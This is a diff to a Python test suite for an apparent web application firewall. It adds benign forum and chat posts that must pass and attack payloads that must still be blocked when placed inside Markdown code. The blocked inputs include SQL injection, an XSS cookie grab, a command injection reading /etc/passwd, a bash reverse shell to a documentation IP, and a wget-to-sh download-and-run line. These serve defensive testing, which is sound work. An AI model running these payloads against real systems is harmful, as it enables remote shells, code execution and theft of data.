@@ -82,6 +82,15 @@ CONFIRMED_BENIGN = [
     ("a Python main guard", "POST", "/forum/posts",
      "title=Entry+point&body=" + urllib.parse.quote_plus("if __name__ == '__main__':\n    main()"),
      "application/x-www-form-urlencoded"),
+    ("a chat line naming a file", "POST", "/api/chat.postMessage",
+     json.dumps({"text": "who owns /etc/nginx/conf.d/shop.conf? someone changed the upstream"}), "application/json"),
+    ("a comment with a command in inline code", "POST", "/api/comments",
+     json.dumps({"comment": "lol the bit about `rm -rf node_modules && npm install` being the universal fix is painfully true"}),
+     "application/json"),
+    ("a Markdown table of shell operators", "POST", "/api/v1/threads/7/replies",
+     json.dumps({"body": "| Operator | Meaning |\n|---|---|\n| `&&` | run next if previous succeeded |\n"
+                 "| `;` | run next regardless |\n\n```sh\nmake && make install || echo \"build failed\"\n```"}),
+     "application/json"),
 ]
 
 
@@ -106,10 +115,14 @@ def test_attacks_shaped_like_confirmed_values_still_block(production, backend):
         status, _, _ = production.get(path, {"x-request-id": rid})
         assert status == 403, f"{path}: {status}"
         assert backend.saw(rid) == []
-    # In a Markdown document CRS's hits do not count; @builtin's still do.
+    # In a Markdown document CRS's hits and @builtin's generic shell rules do
+    # not count; what an attacker runs (4230170), libinjection and the XSS
+    # sinks still do.
     for doc in ("This is what I tried:\n\n```\n' or '1'='1' --\n```\n\nAny idea?",
                 "Look:\n\n```\n<script>alert(document.cookie)</script>\n```",
-                "Fails here:\n\n```\n127.0.0.1; cat /etc/passwd\n```"):
+                "Fails here:\n\n```\n127.0.0.1; cat /etc/passwd\n```",
+                "Fails here:\n\n```\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1\n```\n\nthanks",
+                "We saw `wget -qO- 198.51.100.23/k|sh` in the logs, is that bad?"):
         rid = "confirm-" + uuid.uuid4().hex
         body = json.dumps({"title": "Help", "body": doc}).encode()
         status, _, _ = production.post("/api/forum/questions", body, "application/json", {"x-request-id": rid})
